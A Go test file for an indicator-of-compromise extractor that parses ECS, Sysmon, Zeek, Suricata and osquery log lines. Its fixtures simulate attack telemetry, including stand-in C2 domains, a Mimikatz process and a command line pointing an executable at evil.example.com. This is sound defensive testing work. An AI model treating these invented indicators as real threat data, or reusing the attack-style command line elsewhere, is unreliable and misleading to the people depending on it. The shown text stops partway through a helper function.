package telemetry

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/vigil-health/vigil"
	"github.com/vigil-health/vigil/internal/ioc"
)

const (
	md5Hex    = "d41d8cd98f00b204e9800998ecf8427e"
	sha1Hex   = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
	sha256Hex = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	sha512Hex = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e"
	ip4, ip6  = vigil.TypeIPv4, vigil.TypeIPv6
	dom, url  = vigil.TypeDomain, vigil.TypeURL
	email     = vigil.TypeEmail
	fname     = vigil.TypeFilename
	md5, sha1 = vigil.TypeMD5, vigil.TypeSHA1
	sha256    = vigil.TypeSHA256
	sha512    = vigil.TypeSHA512
)

// o is shorthand for an expected observable.
func o(field string, t vigil.IndicatorType, v string) vigil.Observable {
	return vigil.Observable{Field: field, Type: t, Value: v}
}

func TestExtract(t *testing.T) {
	upper := strings.ToUpper
	tests := []struct {
		name   string
		format Format // FormatAuto when empty
		line   string
		want   []vigil.Observable
		detect Format // the format LastFormat must report
	}{
		// ECS.
		{name: "ecs nested addresses", line: `{"@timestamp":"2019-01-17T01:05:30.172Z","ecs":{"version":"8.2.0"},
			"source":{"ip":"10.0.0.1","port":1},"destination":{"ip":"::ffff:89.160.20.156","domain":"Evil.Example.COM.","geo":{"city_name":"x"}},
			"client":{"ip":"10.0.0.2"},"server":{"ip":"2001:DB8::1","domain":"srv.example.net"},"host":{"ip":["10.1.1.1","fe80::1%eth0"],"name":"pc1.corp.example"}}`,
			want: []vigil.Observable{o("source.ip", ip4, "10.0.0.1"), o("destination.ip", ip4, "89.160.20.156"),
				o("destination.domain", dom, "evil.example.com"), o("client.ip", ip4, "10.0.0.2"), o("server.ip", ip6, "2001:db8::1"),
				o("server.domain", dom, "srv.example.net"), o("host.ip", ip4, "10.1.1.1"), o("host.ip", ip6, "fe80::1")},
			detect: FormatECS},
		{name: "ecs dotted keys and related", line: `{"@timestamp":"x","source.ip":"192.0.2.1","destination.domain":"x.example.org",
			"related.hash":["` + upper(md5Hex) + `","` + sha1Hex + `","nothex"],"related.ip":["192.0.2.1","198.51.100.7"],"related.hosts":["a.example.com","10.0.0.9","WORKSTATION5"]}`,
			want: []vigil.Observable{o("source.ip", ip4, "192.0.2.1"), o("destination.domain", dom, "x.example.org"),
				o("related.hash", md5, md5Hex), o("related.hash", sha1, sha1Hex), o("related.ip", ip4, "192.0.2.1"),
				o("related.ip", ip4, "198.51.100.7"), o("related.hosts", dom, "a.example.com"), o("related.hosts", ip4, "10.0.0.9")},
			detect: FormatECS},
		{name: "ecs dns question and answers", line: `{"@timestamp":"x","dns":{"question":{"name":"Evil.example.com"},
			"answers":[{"data":"203.0.113.5","type":"A"},{"data":"cname.example.net","type":"CNAME"},{"data":"v=spf1 include:x","type":"TXT"}],
			"resolved_ip":["203.0.113.5"]}}`,
			want: []vigil.Observable{o("dns.question.name", dom, "evil.example.com"), o("dns.answers.data", ip4, "203.0.113.5"),
				o("dns.answers.data", dom, "cname.example.net"), o("dns.resolved_ip", ip4, "203.0.113.5")},
			detect: FormatECS},
		{name: "ecs url.full with url.domain", line: `{"@timestamp":"x","url":{"full":"HTTPS://Evil.Example.com:443/a%7eb","domain":"evil.example.com"}}`,
			want:   []vigil.Observable{o("url.full", url, "https://evil.example.com/a~b"), o("url.domain", dom, "evil.example.com")},
			detect: FormatECS},
		{name: "ecs url.full alone adds its host", line: `{"ecs":{"version":"8"},"url":{"full":"http://203.0.113.7:8080/x"}}`,
			want:   []vigil.Observable{o("url.full", url, "http://203.0.113.7:8080/x"), o("url.full", ip4, "203.0.113.7")},
			detect: FormatECS},
		{name: "ecs url joined from domain, port and original", line: `{"@timestamp":"x","url":{"domain":"ocsp.example.com","port":8080,
			"scheme":"http","original":"/ocsp/ME4w?x=1","path":"/ocsp/ME4w"},"event":{"original":"GET http://198.51.100.1/ 198.51.100.2"}}`,
			want:   []vigil.Observable{o("url.domain", dom, "ocsp.example.com"), o("url.original", url, "http://ocsp.example.com:8080/ocsp/ME4w?x=1")},
			detect: FormatECS},
		{name: "ecs url joined with an ipv6 domain", line: `{"ecs":{},"url":{"domain":"2001:db8::7","port":8443,"scheme":"https","original":"/a"}}`,
			want:   []vigil.Observable{o("url.domain", ip6, "2001:db8::7"), o("url.original", url, "https://[2001:db8::7]:8443/a")},
			detect: FormatECS},
		{name: "ecs url port ignored when the domain has one", line: `{"ecs":{},"url":{"domain":"a.example.com:81","port":8443,"original":"/a"}}`,
			want:   []vigil.Observable{o("url.domain", dom, "a.example.com"), o("url.original", url, "http://a.example.com:81/a")},
			detect: FormatECS},
		{name: "ecs tls and hashes and files", line: `{"@timestamp":"x","tls":{"client":{"server_name":"c2.example.org"}},
			"file":{"name":"Invoice.PDF.exe","hash":{"md5":"` + md5Hex + `","sha1":"` + sha1Hex + `","sha256":"` + upper(sha256Hex) + `","sha512":"` + sha512Hex + `"}},
			"process":{"executable":"C:\\Windows\\System32\\CMD.EXE","hash":{"sha256":"` + sha256Hex + `","md5":"short"}}}`,
			want: []vigil.Observable{o("tls.client.server_name", dom, "c2.example.org"), o("file.name", fname, "invoice.pdf.exe"),
				o("file.hash.md5", md5, md5Hex), o("file.hash.sha1", sha1, sha1Hex), o("file.hash.sha256", sha256, sha256Hex),
				o("file.hash.sha512", sha512, sha512Hex), o("process.executable", fname, "cmd.exe"), o("process.hash.sha256", sha256, sha256Hex)},
			detect: FormatECS},
		{name: "ecs email", line: `{"@timestamp":"x","email":{"from":{"address":["Phish@Evil.example"]},"to":{"address":["a@b.example","c@d.example"]},
			"sender":{"address":"x@y.example"},"subject":"pay a@z.example now"}}`,
			want: []vigil.Observable{o("email.from.address", email, "phish@evil.example"), o("email.to.address", email, "a@b.example"),
				o("email.to.address", email, "c@d.example"), o("email.sender.address", email, "x@y.example")},
			detect: FormatECS},
		{name: "ecs winlogbeat event_data", line: `{"@timestamp":"x","winlog":{"event_id":1,"event_data":{"Image":"C:\\x\\Evil.exe",
			"Hashes":"SHA256=` + upper(sha256Hex) + `,IMPHASH=` + md5Hex + `","CommandLine":"evil.exe 203.0.113.1"}}}`,
			want: []vigil.Observable{o("Image", fname, "evil.exe"), o("Hashes.SHA256", sha256, sha256Hex),
				o("CommandLine", ip4, "203.0.113.1")},
			detect: FormatECS},

		// Sysmon and Windows events.
		{name: "sysmon network connection", line: `{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon",
			"SourceIp":"192.168.2.5","DestinationIp":"151.101.208.133","DestinationHostname":"C2.Example.net","SourceHostname":"-","DestinationPort":"443",
			"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","Hostname":"WORKSTATION5",
			"Message":"Network connection detected:\r\nSourceIp: 10.9.9.9\r\nDestinationIp: 203.0.113.99"}`,
			want: []vigil.Observable{o("SourceIp", ip4, "192.168.2.5"), o("DestinationIp", ip4, "151.101.208.133"),
				o("DestinationHostname", dom, "c2.example.net"), o("Image", fname, "powershell.exe")},
			detect: FormatSysmon},
		{name: "sysmon process create hashes", line: `{"EventID":"1","Channel":"Microsoft-Windows-Sysmon/Operational",
			"Image":"C:\\Temp\\a.exe","ParentImage":"C:\\Windows\\explorer.exe","OriginalFileName":"Mimikatz.EXE",
			"Hashes":"SHA1=` + upper(sha1Hex) + `,MD5=` + upper(md5Hex) + `,SHA256=` + upper(sha256Hex) + `,IMPHASH=` + upper(md5Hex) + `",
			"CommandLine":"a.exe https://evil.example.com/x"}`,
			want: []vigil.Observable{o("Image", fname, "a.exe"), o("ParentImage", fname, "explorer.exe"),
				o("OriginalFileName", fname, "mimikatz.exe"), o("Hashes.SHA1", sha1, sha1Hex), o("Hashes.MD5", md5, md5Hex),
				o("Hashes.SHA256", sha256, sha256Hex),
				// a command line is scanned for the addresses among its arguments
				o("CommandLine", url, "https://evil.example.com/x"), o("CommandLine", dom, "evil.example.com")},
			detect: FormatSysmon},
		{name: "sysmon dns query", line: `{"EventID":22,"SourceName":"Microsoft-Windows-Sysmon","QueryName":"raw.githubusercontent.com",
			"QueryResults":"type:  5 github.map.fastly.net;::ffff:151.101.208.133;2001:db8::5;","Image":"C:\\x\\mshta.exe"}`,
			want: []vigil.Observable{o("QueryName", dom, "raw.githubusercontent.com"), o("QueryResults", ip4, "151.101.208.133"),
				o("QueryResults", ip6, "2001:db8::5"), o("Image", fname, "mshta.exe")},
			detect: FormatSysmon},
		{name: "sysmon image load and file create", line: `{"EventID":7,"Channel":"Microsoft-Windows-Sysmon/Operational",
			"ImageLoaded":"C:\\Windows\\System32\\sechost.dll","TargetFilename":"C:\\Users\\x\\AppData\\Local\\Temp\\Payload.ps1",
			"Hash":"MD5=` + md5Hex + `,SHA256=` + sha256Hex + `"}`,
			want: []vigil.Observable{o("ImageLoaded", fname, "sechost.dll"), o("TargetFilename", fname, "payload.ps1"),
				o("Hash.MD5", md5, md5Hex), o("Hash.SHA256", sha256, sha256Hex)},
			detect: FormatSysmon},
		{name: "sysmon EventData as JSON string", line: `{"TenantId":"r","Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational",
			"EventID":"3","EventData":"{\"Image\":\"C:\\\\tomcat\\\\bin\\\\tomcat9.exe\",\"SourceIp\":\"192.168.3.5\",\"DestinationIp\":\"192.168.2.5\",\"DestinationHostname\":\"-\"}"}`,
			want: []vigil.Observable{o("Image", fname, "tomcat9.exe"), o("SourceIp", ip4, "192.168.3.5"),
				o("DestinationIp", ip4, "192.168.2.5")},
			detect: FormatSysmon},
		{name: "windows security 5156 and 4624", line: `{"EventID":5156,"Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing",
			"Application":"\\device\\harddiskvolume2\\windows\\system32\\svchost.exe","SourceAddress":"192.168.2.5","DestAddress":"239.255.255.250",
			"IpAddress":"::1","WorkstationName":"-"}`,
			want: []vigil.Observable{o("Application", fname, "svchost.exe"), o("SourceAddress", ip4, "192.168.2.5"),
				o("DestAddress", ip4, "239.255.255.250"), o("IpAddress", ip6, "::1")},
			detect: FormatSysmon},

		// Zeek.
		{name: "zeek conn dotted", line: `{"_path":"conn","ts":"2018-03-24T17:15:20.865716Z","uid":"C1","id.orig_h":"10.47.1.100","id.orig_p":41772,
			"id.resp_h":"2001:DB8::53","id.resp_p":53,"proto":"udp"}`,
			want:   []vigil.Observable{o("id.orig_h", ip4, "10.47.1.100"), o("id.resp_h", ip6, "2001:db8::53")},
			detect: FormatZeek},
		{name: "zeek conn underscored json-streaming", line: `{"@stream":"conn","@system":"x","ts":1588187906.6,"id_orig_h":"10.0.1.6","id_resp_h":"10.0.0.4"}`,
			want:   []vigil.Observable{o("id_orig_h", ip4, "10.0.1.6"), o("id_resp_h", ip4, "10.0.0.4")},
			detect: FormatZeek},
		{name: "zeek dns answers", line: `{"_path":"dns","id.orig_h":"10.47.1.100","id.resp_h":"10.0.0.100","query":"ISE.wrccdc.org",
			"answers":["ise.wrccdc.cpp.edu","134.71.3.16","134.71.3.16","TXT 20 v=spf1 -all"],"TTLs":[1.0,2.0]}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.47.1.100"), o("id.resp_h", ip4, "10.0.0.100"),
				o("query", dom, "ise.wrccdc.org"), o("answers", dom, "ise.wrccdc.cpp.edu"), o("answers", ip4, "134.71.3.16")},
			detect: FormatZeek},
		{name: "zeek http host and uri", line: `{"_path":"http","id.orig_h":"10.178.98.102","id.resp_h":"89.160.20.156","method":"GET",
			"host":"OCSP.Apple.com:8080","uri":"/ocsp04/ME4w?a=%7e","user_agent":"x","referrer":"http://203.0.113.4/"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.178.98.102"), o("id.resp_h", ip4, "89.160.20.156"),
				o("host", dom, "ocsp.apple.com"), o("uri", url, "http://ocsp.apple.com:8080/ocsp04/ME4w?a=~"),
				// a field holding a whole URL is read whatever it is called
				o("referrer", url, "http://203.0.113.4/"), o("referrer", ip4, "203.0.113.4")},
			detect: FormatZeek},
		{name: "zeek http ip host", line: `{"@stream":"http","id_orig_h":"10.0.1.4","id_resp_h":"192.168.0.4","host":"192.168.0.4","uri":"/"}`,
			want: []vigil.Observable{o("id_orig_h", ip4, "10.0.1.4"), o("id_resp_h", ip4, "192.168.0.4"),
				o("host", ip4, "192.168.0.4"), o("uri", url, "http://192.168.0.4/")},
			detect: FormatZeek},
		{name: "zeek http absolute uri adds host", line: `{"_path":"http","uri":"http://proxy.example.com/a","method":"GET","id.orig_h":"10.0.0.1"}`,
			want: []vigil.Observable{o("uri", url, "http://proxy.example.com/a"), o("id.orig_h", ip4, "10.0.0.1"),
				o("uri", dom, "proxy.example.com")},
			detect: FormatZeek},
		{name: "zeek ssl server_name", line: `{"_path":"ssl","id.orig_h":"10.0.0.1","id.resp_h":"10.0.0.2","server_name":"Login.Example.org",
			"subject":"CN=other.example.org","cert_chain_fps":["` + sha256Hex + `"]}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.0.0.1"), o("id.resp_h", ip4, "10.0.0.2"),
				o("server_name", dom, "login.example.org"), o("cert_chain_fps", vigil.TypeX509SHA256, sha256Hex)},
			detect: FormatZeek},
		{name: "zeek ssl with ja3, ja3s and the certificate's sha1", line: `{"@stream":"ssl","id_orig_h":"10.0.1.6","id_resp_h":"192.168.0.4",
			"resp_certificate_sha1":"` + upper(sha1Hex) + `","ja3":"` + md5Hex + `","ja3s":"` + upper(md5Hex) + `",
			"ja4":"T13d1516h2_8daaf6152771_b186095e22b6"}`,
			want: []vigil.Observable{o("id_orig_h", ip4, "10.0.1.6"), o("id_resp_h", ip4, "192.168.0.4"),
				o("resp_certificate_sha1", vigil.TypeX509SHA1, sha1Hex), o("ja3", vigil.TypeJA3, md5Hex),
				o("ja3s", vigil.TypeJA3S, md5Hex), o("ja4", vigil.TypeJA4, "t13d1516h2_8daaf6152771_b186095e22b6")},
			detect: FormatZeek},
		{name: "zeek files of a certificate", line: `{"@stream":"files","fuid":"F2","tx_hosts":["192.168.0.4"],"source":"SSL",
			"mime_type":"application/x-x509-user-cert","md5":"` + md5Hex + `","sha1":"` + sha1Hex + `"}`,
			want:   []vigil.Observable{o("tx_hosts", ip4, "192.168.0.4"), o("sha1", vigil.TypeX509SHA1, sha1Hex)},
			detect: FormatZeek},
		{name: "suricata tls fingerprints", line: `{"event_type":"tls","src_ip":"10.0.0.5","dest_ip":"203.0.113.9","timestamp":"2026-01-01T00:00:00Z",
			"tls":{"sni":"c2.example","fingerprint":"` + colons(sha1Hex) + `","ja3":{"hash":"` + md5Hex + `"},"ja3s":{"hash":"` + md5Hex + `"}}}`,
			want: []vigil.Observable{o("src_ip", ip4, "10.0.0.5"), o("dest_ip", ip4, "203.0.113.9"), o("tls.sni", dom, "c2.example"),
				o("tls.fingerprint", vigil.TypeX509SHA1, sha1Hex), o("tls.ja3.hash", vigil.TypeJA3, md5Hex), o("tls.ja3s.hash", vigil.TypeJA3S, md5Hex)},
			detect: FormatSuricata},
		{name: "ecs tls and a certificate file", line: `{"@timestamp":"2026-01-01T00:00:00Z","ecs":{"version":"8.11"},
			"tls":{"client":{"ja3":"` + md5Hex + `"},"server":{"ja3s":"` + md5Hex + `","hash":{"sha256":"` + sha256Hex + `"}}},
			"file":{"hash":{"sha1":"` + sha1Hex + `"},"x509":{"serial_number":"55FBB9C7DEBF09809D12CCAA"}}}`,
			want: []vigil.Observable{o("tls.client.ja3", vigil.TypeJA3, md5Hex), o("tls.server.ja3s", vigil.TypeJA3S, md5Hex),
				o("tls.server.hash.sha256", vigil.TypeX509SHA256, sha256Hex), o("file.hash.sha1", vigil.TypeX509SHA1, sha1Hex)},
			detect: FormatECS},
		{name: "zeek files", line: `{"@stream":"files","fuid":"F1","tx_hosts":["10.0.0.4"],"rx_hosts":["10.0.1.6"],"source":"SMB",
			"filename":"dmevals.local\\Policies\\{31B2}\\GPT.ini","md5":"` + md5Hex + `","sha1":"` + upper(sha1Hex) + `","sha256":"` + sha256Hex + `"}`,
			want: []vigil.Observable{o("tx_hosts", ip4, "10.0.0.4"), o("rx_hosts", ip4, "10.0.1.6"), o("filename", fname, "gpt.ini"),
				o("md5", md5, md5Hex), o("sha1", sha1, sha1Hex), o("sha256", sha256, sha256Hex)},
			detect: FormatZeek},
		{name: "zeek x509 san", line: `{"_path":"x509","fingerprint":"` + sha256Hex + `","certificate.subject":"CN=localhost,emailAddress=a@b.example",
			"san.dns":["l.live.net","*.live.com"],"san.ip":["172.16.0.156"],"san.email":["Admin@Example.com"],"san.uri":["https://ca.example.com/p"]}`,
			want: []vigil.Observable{o("san.dns", dom, "l.live.net"), o("san.ip", ip4, "172.16.0.156"),
				o("san.email", email, "admin@example.com"), o("san.uri", url, "https://ca.example.com/p"), o("san.uri", dom, "ca.example.com"),
				o("fingerprint", vigil.TypeX509SHA256, sha256Hex)},
			detect: FormatZeek},
		{name: "zeek x509 underscored", line: `{"@stream":"x509","certificate_subject":"CN=x.example.com","san_dns":["api.live.com"],"san_ip":["10.1.2.3"]}`,
			want:   []vigil.Observable{o("san_dns", dom, "api.live.com"), o("san_ip", ip4, "10.1.2.3")},
			detect: FormatZeek},
		{name: "zeek smtp", line: `{"_path":"smtp","id.orig_h":"10.164.94.120","id.resp_h":"10.47.8.208","helo":"mail.example",
			"mailfrom":"<Nessus49048747@hotmail.com>","rcptto":["<a@b.example>","c@d.example"],"from":"\"Doe, John\" <John@Example.org>",
			"to":["Jane <jane@example.org>, bob@example.org"],"path":["10.47.8.208","10.164.94.120"],"last_reply":"250 ok x@y.example"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.164.94.120"), o("id.resp_h", ip4, "10.47.8.208"),
				o("mailfrom", email, "nessus49048747@hotmail.com"), o("rcptto", email, "a@b.example"), o("rcptto", email, "c@d.example"),
				o("from", email, "john@example.org"), o("to", email, "jane@example.org"), o("to", email, "bob@example.org"),
				o("path", ip4, "10.47.8.208"), o("path", ip4, "10.164.94.120")},
			detect: FormatZeek},
		{name: "zeek notice", line: `{"_path":"notice","uid":"C1","id.orig_h":"10.164.94.120","id.resp_h":"10.47.3.200","note":"SSL::Invalid_Server_Cert",
			"msg":"failed 203.0.113.8","sub":"CN=localhost.localdomain","src":"10.164.94.120","dst":"10.47.3.200"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.164.94.120"), o("id.resp_h", ip4, "10.47.3.200"),
				o("src", ip4, "10.164.94.120"), o("dst", ip4, "10.47.3.200")},
			detect: FormatZeek},
		{name: "zeek known_hosts and ftp", line: `{"_path":"ftp","host":"10.164.94.120","data_channel.orig_h":"10.164.94.121","data_channel.resp_h":"172.20.0.80"}`,
			want: []vigil.Observable{o("host", ip4, "10.164.94.120"), o("data_channel.orig_h", ip4, "10.164.94.121"),
				o("data_channel.resp_h", ip4, "172.20.0.80")},
			detect: FormatZeek},

		// Suricata EVE.
		{name: "suricata dns query", line: `{"timestamp":"2017-01-30T16:12:26.985026+0100","flow_id":1,"event_type":"dns","src_ip":"172.17.0.2",
			"src_port":55645,"dest_ip":"172.21.3.254","dest_port":53,"proto":"UDP","dns":{"type":"query","rrname":"_http._tcp.security.debian.org","rrtype":"SRV"}}`,
			want: []vigil.Observable{o("src_ip", ip4, "172.17.0.2"), o("dest_ip", ip4, "172.21.3.254"),
				o("dns.rrname", dom, "_http._tcp.security.debian.org")},
			detect: FormatSuricata},
		{name: "suricata dns answer v1", line: `{"event_type":"dns","src_ip":"172.21.3.254","dest_ip":"172.17.0.2","dns":{"type":"answer",
			"rrname":"fastly.net","rrtype":"NS","rdata":"ns1.fastly.net"}}`,
			want: []vigil.Observable{o("src_ip", ip4, "172.21.3.254"), o("dest_ip", ip4, "172.17.0.2"),
				o("dns.rrname", dom, "fastly.net"), o("dns.rdata", dom, "ns1.fastly.net")},
			detect: FormatSuricata},
		{name: "suricata dns v2 answers and grouped", line: `{"event_type":"dns","flow_id":2,"dns":{"version":2,"type":"answer","rrname":"evil.example",
			"answers":[{"rrname":"evil.example","rrtype":"A","rdata":"203.0.113.10"},{"rrname":"evil.example","rrtype":"TXT","rdata":"hello world"}],
			"grouped":{"A":["203.0.113.10","203.0.113.11"],"CNAME":["alias.example.net"]},"query":[{"rrname":"q.example.org"}]}}`,
			want: []vigil.Observable{o("dns.rrname", dom, "evil.example"), o("dns.answers.rrname", dom, "evil.example"),
				o("dns.answers.rdata", ip4, "203.0.113.10"), o("dns.grouped.A", ip4, "203.0.113.10"), o("dns.grouped.A", ip4, "203.0.113.11"),
				o("dns.grouped.CNAME", dom, "alias.example.net"), o("dns.query.rrname", dom, "q.example.org")},
			detect: FormatSuricata},
		{name: "suricata http alert", line: `{"timestamp":"t","event_type":"alert","src_ip":"172.17.0.2","dest_ip":"54.230.202.37",
			"alert":{"signature":"ET POLICY deb.debian.org 1.2.3.4","category":"x"},
			"http":{"hostname":"deb.debian.org","url":"\/debian\/pool\/main\/p\/perl\/perl-base_5.24.1-1_amd64.deb","http_user_agent":"Debian APT-HTTP\/1.3"}}`,
			want: []vigil.Observable{o("src_ip", ip4, "172.17.0.2"), o("dest_ip", ip4, "54.230.202.37"),
				o("http.hostname", dom, "deb.debian.org"), o("http.url", url, "http://deb.debian.org/debian/pool/main/p/perl/perl-base_5.24.1-1_amd64.deb")},
			detect: FormatSuricata},
		{name: "suricata fileinfo", line: `{"timestamp":"t","event_type":"fileinfo","src_ip":"54.230.202.37","dest_ip":"172.17.0.2",
			"fileinfo":{"filename":"\/debian\/pool\/main\/p\/perl\/Perl-Base.deb","md5":"` + upper(md5Hex) + `","sha1":"` + sha1Hex + `","sha256":"` + sha256Hex + `","size":919}}`,
			want: []vigil.Observable{o("src_ip", ip4, "54.230.202.37"), o("dest_ip", ip4, "172.17.0.2"),
				o("fileinfo.filename", fname, "perl-base.deb"), o("fileinfo.md5", md5, md5Hex), o("fileinfo.sha1", sha1, sha1Hex),
				o("fileinfo.sha256", sha256, sha256Hex)},
			detect: FormatSuricata},
		{name: "suricata tls sni", line: `{"timestamp":"t","event_type":"tls","src_ip":"10.0.0.1","dest_ip":"10.0.0.2","tls":{"sni":"C2.example.com","subject":"CN=c2.example.com"}}`,
			want:   []vigil.Observable{o("src_ip", ip4, "10.0.0.1"), o("dest_ip", ip4, "10.0.0.2"), o("tls.sni", dom, "c2.example.com")},
			detect: FormatSuricata},
		{name: "suricata smtp", line: `{"timestamp":"t","event_type":"smtp","src_ip":"10.0.0.1","smtp":{"helo":"x","mail_from":"<Bad@Evil.example>","rcpt_to":["<v@nhs.example>"]},
			"email":{"from":"Bad Guy <bad@evil.example>","to":["v@nhs.example"],"subject":"hello"}}`,
			want: []vigil.Observable{o("src_ip", ip4, "10.0.0.1"), o("smtp.mail_from", email, "bad@evil.example"),
				o("smtp.rcpt_to", email, "v@nhs.example"), o("email.from", email, "bad@evil.example"), o("email.to", email, "v@nhs.example")},
			detect: FormatSuricata},

		// osquery.
		{name: "osquery event", line: `{"name":"pack_net_conns","hostIdentifier":"host1","calendarTime":"x","unixTime":1,
			"columns":{"remote_address":"203.0.113.9","local_address":"10.0.0.5","remote_port":"443","path":"/usr/bin/curl"},"action":"added"}`,
			want: []vigil.Observable{o("columns.remote_address", ip4, "203.0.113.9"), o("columns.local_address", ip4, "10.0.0.5"),
				o("columns.path", fname, "curl")},
			detect: FormatOsquery},
		{name: "osquery snapshot", line: `{"name":"hashes","hostIdentifier":"h","snapshot":[{"path":"C:\\Temp\\Evil.exe","md5":"` + md5Hex + `",
			"sha256":"` + sha256Hex + `"},{"path":"/tmp/x.sh","sha1":"` + sha1Hex + `"}],"action":"snapshot"}`,
			want: []vigil.Observable{o("snapshot.path", fname, "evil.exe"), o("snapshot.md5", md5, md5Hex), o("snapshot.sha256", sha256, sha256Hex),
				o("snapshot.path", fname, "x.sh"), o("snapshot.sha1", sha1, sha1Hex)},
			detect: FormatOsquery},
		{name: "osquery batch diffResults", line: `{"name":"q","diffResults":{"added":[{"address":"192.0.2.44","hostname":"Evil.Example.net"}],
			"removed":[{"url":"https://evil.example.net/x","domain":"evil.example.net"}]}}`,
			want: []vigil.Observable{o("diffResults.added.address", ip4, "192.0.2.44"), o("diffResults.added.hostname", dom, "evil.example.net"),
				o("diffResults.removed.url", url, "https://evil.example.net/x"), o("diffResults.removed.domain", dom, "evil.example.net")},
			detect: FormatOsquery},

		// Generic.
		{name: "generic nested", line: `{"time":"2020-10-12T22:32:48.932Z","version":"10.0.19041.546","clock":"18:32:48","mac":"00:0d:3a:13:e3:69",
			"net":{"peer":"203.0.113.50:4444","local":"fe80::1"},"ioc":{"hash":"` + upper(sha256Hex) + `","ids":["` + md5Hex + `","12345678901234567890123456789012"]},
			"links":["https://Evil.example.com/gate.php","C:\\x\\report.exe"],"who":"Admin@Evil.example.com","names":["evil.example.org","report.zip","setup.exe",
			"WORKSTATION5.theshire.local","System.Management.Automation","a b.example.com"],"message":"203.0.113.51 evil2.example.com",
			"Description":"evil3.example.com","deep":[[{"x":"198.51.100.23"}]]}`,
			want: []vigil.Observable{o("net.peer", ip4, "203.0.113.50"), o("net.local", ip6, "fe80::1"),
				o("ioc.hash", sha256, sha256Hex), o("ioc.ids", md5, md5Hex), o("links", url, "https://evil.example.com/gate.php"),
				o("who", email, "admin@evil.example.com"), o("names", dom, "evil.example.org"), o("deep.x", ip4, "198.51.100.23"),
				o("links", dom, "evil.example.com")},
			detect: FormatGeneric},

		// Forced formats and edge cases.
		{name: "forced zeek on a zeek line", format: FormatZeek, line: `{"id.orig_h":"10.0.0.1"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.0.0.1")}, detect: FormatZeek},
		{name: "forced generic on a zeek line", format: FormatGeneric, line: `{"_path":"conn","id.orig_h":"10.0.0.1"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.0.0.1")}, detect: FormatGeneric},
		{name: "utf-8 BOM", line: "\xef\xbb\xbf" + `{"_path":"conn","id.orig_h":"10.0.0.1"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.0.0.1")}, detect: FormatZeek},
		{name: "placeholders and junk skipped", line: `{"_path":"conn","id.orig_h":"-","id.resp_h":"","query":"-","host":"localhost",
			"filename":"-","md5":"xyz","answers":[1,null,{"a":"10.0.0.1"}],"server_name":"999.1.1.1"}`,
			want: nil, detect: FormatZeek},
		{name: "escaped keys and values", line: `{"_path":"conn","id.orig\u005fh":"10.0.0.\u0031"}`,
			want: []vigil.Observable{o("id.orig_h", ip4, "10.0.0.1")}, detect: FormatZeek},
		{name: "idn domain", line: `{"_path":"dns","query":"Bücher.example"}`,
			want: []vigil.Observable{o("query", dom, "xn--bcher-kva.example")}, detect: FormatZeek},
		{name: "empty object", line: `{}`, want: nil, detect: FormatGeneric},
	}
	// shared sees every line in turn, as in a file that mixes formats: it must give the same
	// result as a fresh Extractor although each line is first walked as the previous one's format.
	shared := NewExtractor(FormatAuto)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := tt.format
			if f == "" {
				f = FormatAuto
				obs, err := shared.Extract([]byte(tt.line), nil)
				if g, w := lines(obs), lines(tt.want); err != nil || g != w || shared.LastFormat() != tt.detect {
					t.Errorf("after other formats: %v, format %q, observables:\n%s\nwant:\n%s", err, shared.LastFormat(), g, w)
				}
			}
			ex := NewExtractor(f)
			prefix := []vigil.Observable{o("keep", ip4, "192.0.2.255")}
			got, err := ex.Extract([]byte(tt.line), slices.Clone(prefix))
			if err != nil {
				t.Fatalf("Extract: %v", err)
			}
			if len(got) == 0 || got[0] != prefix[0] {
				t.Fatalf("Extract dropped what dst held: %v", got)
			}
			got = got[1:]
			if ex.LastFormat() != tt.detect || ex.LastBlank() {
				t.Errorf("LastFormat() = %q, LastBlank() = %v; want %q, false", ex.LastFormat(), ex.LastBlank(), tt.detect)
			}
			if g, w := lines(got), lines(tt.want); g != w {
				t.Errorf("observables:\n%s\nwant:\n%s", g, w)
			}
			for _, ob := range got {
				checkObservable(t, ob)
			}
		})
	}
}

// lines renders observables one per line, sorted, for comparison and readable failures.
func lines(obs []vigil.Observable) string {
	s := make([]string, len(obs))
	for i, ob := range obs {
		s[i] = ob.Field + " " + string(ob.Type) + " " + ob.Value
	}
	slices.Sort(s)
	return strings.Join(s, "\n")
}

// checkObservable fails the test unless ob holds a non-empty value that re-normalises to itself.
func checkObservable(t testing.TB, ob vigil.Observable) {
	t.Helper()
	if ob.Value == "" || ob.Field == "" || !ob.Type.Valid() {
		t.Fatalf("bad observable %+v", ob)
	}
	if again, err := renormalize(ob.Type, ob.Value); err != nil || again != ob.Value {
		t.Fatalf("observable %+v re-normalises to %q (%v)", ob, again, err)
	}
}

// renormalize applies the internal/ioc function that defines values of type t.
// colons writes a hex digest as certificate tools do: upper-case bytes between colons.
func colons(h string) string {
	var parts []string
	for i := 0; i < len(h); i += 2 {
		parts = append(parts, strings.ToUpper(h[i:i+2]))
	}
	return strings.Join(parts, ":")
}

func renormalize(t vigil.IndicatorType, v string) (string, error) {
	switch t {
	case vigil.TypeIPv4, vigil.TypeIPv6:
		a, ok := ioc.Addr(v)
		if !ok || a.Is4() != (t == vigil.TypeIPv4) {
			return "", errors.New("not an address of that type")
		}
		return a.String(), nil
	case vigil.TypeDomain:
		return ioc.DomainName(v)
	case vigil.TypeURL:
		return ioc.URL(v)
	case vigil.TypeEmail:
		return ioc.Email(v)
	case vigil.TypeFilename:
		return ioc.Filename(v)
	}
	if t.IsFingerprint() {
		return ioc.Fingerprint(t, v)
	}
